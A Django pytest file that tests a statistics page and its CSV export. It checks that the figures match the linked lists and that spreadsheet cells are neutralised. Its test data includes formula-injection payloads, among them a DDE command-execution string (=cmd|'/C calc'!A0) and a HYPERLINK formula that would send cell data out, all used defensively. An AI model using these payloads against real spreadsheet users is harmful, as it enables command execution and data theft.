"""Statistics: every figure equals the list it leads to, on the page and in the spreadsheet."""

import csv
import html
import re
from io import StringIO

import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from editorial.reading.spreadsheet import lines, safe
from events.models import Event
from portal.listings import LISTS
from tests import factories as make

pytestmark = pytest.mark.django_db

KINDS = ["events", "publications", "agreements", "people", "institutions"]


@pytest.fixture
def record():
    """Two institutes with centres over four years; drafts, withheld names and rows without a date among them."""
    energy, trade = make.topic("Energy"), make.topic("Trade")
    oil = make.topic("Oil", broader=energy)
    institute = make.institution("Institute", country="PK", topics=[trade])
    centre = make.institution("Centre", kind="centre", parent=institute, country="PK")
    other = make.institution("Embassy", kind="embassy", country="RU")
    hidden = make.draft(make.institution("Hidden unit", kind="centre", parent=institute))
    ann = make.person("Ann Ahmad", "Director", institute, topics=[oil])
    ben = make.person("=cmd|'/C calc'!A0", "Fellow", centre)
    rows = [
        ("Oil", "forum", [institute], [(ann, "speaker"), (ann, "moderator")], [oil], "2022", "PK", {}),
        ("Oil and trade", "forum", [centre, other], [(ann, "chair"), (ben, "speaker")], [oil, trade], "2024-05", "PK", {}),
        ("Energy", "seminar", [other], [(ben, "speaker")], [energy], "2024-06-01", "RU", {"language": "ru"}),
        ("Closed", "seminar", [institute], [(ben, "chair")], [], "2025", "", {"rule": "chatham-house", "withheld": "names"}),
        ("In a hidden unit", "roundtable", [hidden], [], [trade], "2025-01-01", "PK", {}),
        ("Undated", "roundtable", [], [], [], "", "", {}),
    ]  # fmt: skip
    for title, kind, hosts, people, topics, date, country, more in rows:
        make.event(title, kind, hosts, people, topics, start_date=date, country=country, **more)
    make.draft(make.event("Draft", "forum", [centre], [(ann, "speaker")], [oil], start_date="2024", country="BT"))
    make.publication("A report", people=[(ann, "author")], topics=[oil], date="2024", publisher=institute)
    make.publication("A book", "book", people=[(ben, "editor")], topics=[trade], date="", publisher=centre)
    make.agreement("A pact", parties=[centre, other], signatories=[(ann, centre)], signed_on="2023-04", topics=[trade])


LINES = re.compile(r'<th scope="row"><a href="([^"]*)">.*?</th><td class="num">(\d+)</td>')
BARS = re.compile(r'<a href="([^"]*)" aria-label="\S+ (\d+) ')
TOTALS = re.compile(r'<a href="([^"]*)">(?:<b>|<span class="num">)(\d+)<')


def figures(page):
    """Return every figure of a page as (address of its list, figure)."""
    text = page.content.decode()
    found = [pair for pattern in (LINES, BARS, TOTALS) for pair in pattern.findall(text)]
    return [(html.unescape(address), int(number)) for address, number in found]


def total(client, address):
    """Return how many records a list has, by its own filter: the page around them would be made for every figure."""
    kind, _, query = address.strip("/").partition("/?")
    view = next(view for name, view in LISTS.items() if reverse(name) == f"/{kind}/")
    return view.filters(QueryDict(query), queryset=view().records()).results.count()


def test_a_list_says_that_total_on_its_page(client, record):
    for address, number in figures(client.get("/statistics/agreements/?institution=institute")):
        assert client.get(address).context["total"] == number == total(client, address)


CHOICES = [
    "",
    "?topic=energy",
    "?topic=oil&topic=trade&sort=title",
    "?institution=institute",
    "?institution=institute&with=embassy",
    "?institution=centre&institution=embassy&year=2024",
    "?year=2024&year=2022&country=pk",
    "?person=ann-ahmad&role=chair",
    "?q=oil",
]


@pytest.mark.parametrize("choice", CHOICES)
def test_every_figure_is_that_of_the_list_it_leads_to(client, record, choice):
    found = figures(client.get(f"/statistics/events/{choice}"))
    assert found == [(address, total(client, address)) for address, _ in found]
    assert (f"/events/{choice}", total(client, f"/events/{choice}")) in found
    assert len(found) > 8
    table = read(client.get(f"/statistics/events/csv/{choice}"))
    linked = [(line[3].removeprefix("http://testserver"), int(line[2])) for line in table[1:] if line[3]]
    assert linked == [(address, total(client, address)) for address, _ in linked]
    assert {address for address, _ in found} <= {address for address, _ in linked}


@pytest.mark.parametrize("kind", KINDS)
def test_every_kind_has_figures_that_are_those_of_their_lists(client, record, kind):
    for address in (f"/statistics/{kind}/", f"/statistics/{kind}/?topic=oil&topic=trade", "/statistics/"):
        found = figures(client.get(address))
        assert found == [(each, total(client, each)) for each, _ in found]
        assert found


def read(response):
    return list(csv.reader(StringIO(response.getvalue().decode("utf-8-sig"), newline="")))


def test_within_a_choice_only_the_chosen_and_what_is_beneath_is_counted(client, record):
    tables = {name: ranking for name, ranking, _ in client.get("/statistics/events/?topic=energy").context["tables"]}
    assert [(rank.label, rank.count, rank.on) for rank in tables["topic"].first] == [
        ("Energy", 3, True),
        ("Oil", 2, False),
    ]
    assert tables["topic"].first[1].address == "/events/?topic=oil"
    tables = client.get("/statistics/events/?institution=institute").context["tables"]
    shown = {name: [(rank.label, rank.count) for rank in ranking.first] for name, ranking, _ in tables}
    assert (shown["centre"], shown["with"]) == ([("Centre", 1)], [("Embassy", 1)])
    assert "institution" not in shown  # It would say the total again.


@pytest.mark.once
def test_figures_that_do_not_add_up_say_why(client, record):
    page = client.get("/statistics/events/")
    said = {name: remark for name, _, remark in page.context["tables"] if remark}
    several = "One can stand in several lines and another in none: the figures do not add up to 6."
    assert said == {
        **dict.fromkeys(["topic", "centre", "person", "role"], several),
        "country": "For 2 of the 6 no country is known.",
    }
    assert '<th scope="row">Date not given</th><td class="num">1</td>' in page.content.decode()


def test_who_took_part_under_a_rule_is_in_no_figure(client, record):
    tables = client.get("/statistics/events/").context["tables"]
    roles = {rank.label: rank.count for name, ranking, _ in tables if name == "role" for rank in ranking.first}
    assert roles == {"speaker": 3, "moderator": 1, "chair": 1}


@pytest.mark.once
def test_the_head_says_what_was_counted_and_when(client, record):
    words = " ".join(
        re.sub("<[^>]*>", "", client.get("/statistics/events/?year=2024&topic=oil&q=trade").content.decode()).split()
    )
    assert re.search(r"Words: “trade”; Topic: Oil; Year: 2024. Counted on \d+ \w+ \d{4}\.", words)


def test_nothing_found_says_what_to_drop(client, record):
    page = client.get("/statistics/events/?topic=oil&year=2025")
    assert (page.context["tables"], page.context["drawing"]) == ([], None)
    assert [(chip.label, chip.count) for chip in page.context["advice"]] == [("Oil", 2), ("2025", 2)]


@pytest.mark.once
def test_lists_lead_to_their_figures_with_what_was_chosen(client, record):
    page = client.get("/events/?topic=oil&sort=title").content.decode()
    assert '<a href="/statistics/events/?topic=oil&amp;sort=title" rel="nofollow">Statistics of this list</a>' in page
    assert '<a href="/statistics/events/records/?topic=oil&amp;sort=title" rel="nofollow">' in page
    assert "/statistics/people/" not in client.get("/experts/").content.decode()


def test_a_list_shows_the_years_among_which_it_can_choose(client, record):
    page = client.get("/events/?institution=institute&year=2024")
    assert [(bar.label, bar.count, bar.address, bar.on) for bar in page.context["drawing"].rows] == [
        ("2025", 2, "?institution=institute&year=2025", False),
        ("2024", 1, "?institution=institute&year=2024", True),
        ("2022", 1, "?institution=institute&year=2022", False),
    ]
    assert [client.get(address).context.get("drawing") for address in ("/people/", "/events/?year=1999")] == [
        None,
        None,
    ]


@pytest.mark.once
def test_the_spreadsheet_of_a_list_is_as_it_should_be_to_the_byte(client, record):
    answer = client.get("/statistics/events/records/?topic=trade&sort=title")
    assert answer.getvalue().decode() == (
        '\ufeff"title","date","date is","kind","place","institutions","topics","address"\r\n'
        '"In a hidden unit","2025-01-01","","roundtable","Pakistan","Hidden unit","Trade",'
        '"http://testserver/events/in-a-hidden-unit/"\r\n'
        '"Oil and trade","2024-05","","forum","Pakistan","Centre; Embassy","Oil; Trade",'
        '"http://testserver/events/oil-and-trade/"\r\n'
    )
    assert re.fullmatch(r'attachment; filename="events-\d{4}-\d\d-\d\d\.csv"', answer["Content-Disposition"])
    assert answer["Content-Type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.once
def test_the_spreadsheet_of_a_list_has_its_records_in_its_order(client, record, kind):
    view = next(view for name, view in LISTS.items() if reverse(name) == f"/{kind}/")
    listed = [str(each) for each in view.filters(QueryDict("sort=oldest"), queryset=view().records()).results]
    table = read(client.get(f"/statistics/{kind}/records/?sort=oldest"))
    assert [line[0].removeprefix("'") for line in table[1:]] == listed
    assert all(len(line) == len(table[0]) for line in table)


# What spreadsheets calculate, in every dress, and what they must be left.
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", " =1", '"=1"', "=cmd|'/C calc'!A0"]
FORMULAS += ['=HYPERLINK("http://e?d="&A1)', "=IMPORTXML(1)", "+92 300 1234567", "-", "\u200e=1", "\tx"]


@pytest.mark.once
@pytest.mark.parametrize("cell", FORMULAS)
def test_no_words_are_calculated(cell):
    assert safe(cell) == f"'{cell}"
    text = "".join(lines([[cell]]))
    assert list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))) == [[f"'{cell}"]]


@pytest.mark.once
def test_plain_words_and_numbers_stay_what_they_are():
    plain = ["a=b", "12-13 May", 'He said "no"', "two\nlines", "a;b,c", "", "x" * 40_000, -5, 0]
    assert [safe(cell) for cell in plain] == plain
    assert "".join(lines([["a;b", 'c"d', -5]])) == '\ufeff"a;b","c""d",-5\r\n'


def asked(client, address):
    with CaptureQueriesContext(connection) as queries:
        client.get(address).getvalue()
    return len(queries)


@pytest.mark.parametrize(
    "address", ["", "events/", "events/?institution=institute", "people/", "events/csv/", "events/records/"]
)
def test_statistics_ask_as_often_for_many_as_for_few(client, record, address):
    once = asked(client, f"/statistics/{address}")
    topic, body = make.topic("Water"), make.institution("Far institute", kind="university")
    for n in range(4):
        who = make.person(f"Guest {n}")
        make.event(f"Further {n}", hosts=[body], people=[(who, "speaker")], topics=[topic], start_date=f"201{n}")
    assert asked(client, f"/statistics/{address}") == once


@pytest.mark.parametrize("address", ["/statistics/bills/", "/statistics/bills/csv/", "/statistics/experts/records/"])
@pytest.mark.once
def test_what_is_no_kind_has_no_figures(client, address):
    assert client.get(address).status_code == 404


def test_rubbish_is_counted_as_nothing(client, record):
    for value in ("%00", "%ED%A0%80", "%22", "0000", "9" * 30, "a" * 5000, "no-such"):
        for name in ("topic", "year", "with"):
            page = client.get(f"/statistics/events/?{name}={value}")
            assert (page.status_code, page.context["figures"].total) == (200, 0)
            assert read(client.get(f"/statistics/events/csv/?{name}={value}"))[1][2] == "0"


def test_the_whole_record_leads_to_every_kind(client, record):
    page = client.get("/statistics/").content.decode()
    assert [kind for kind in KINDS if f'href="/statistics/{kind}/"' not in page] == []
    assert f"<b>{Event.objects.published().count()}</b> events" in page
    assert {str(view.model._meta.verbose_name_plural) for view in LISTS.values()} == set(KINDS)


def test_an_empty_record_has_figures_that_say_so(client):
    assert client.get("/statistics/").status_code == 200
    assert "Nothing is on the public record here yet." in client.get("/statistics/events/").content.decode()
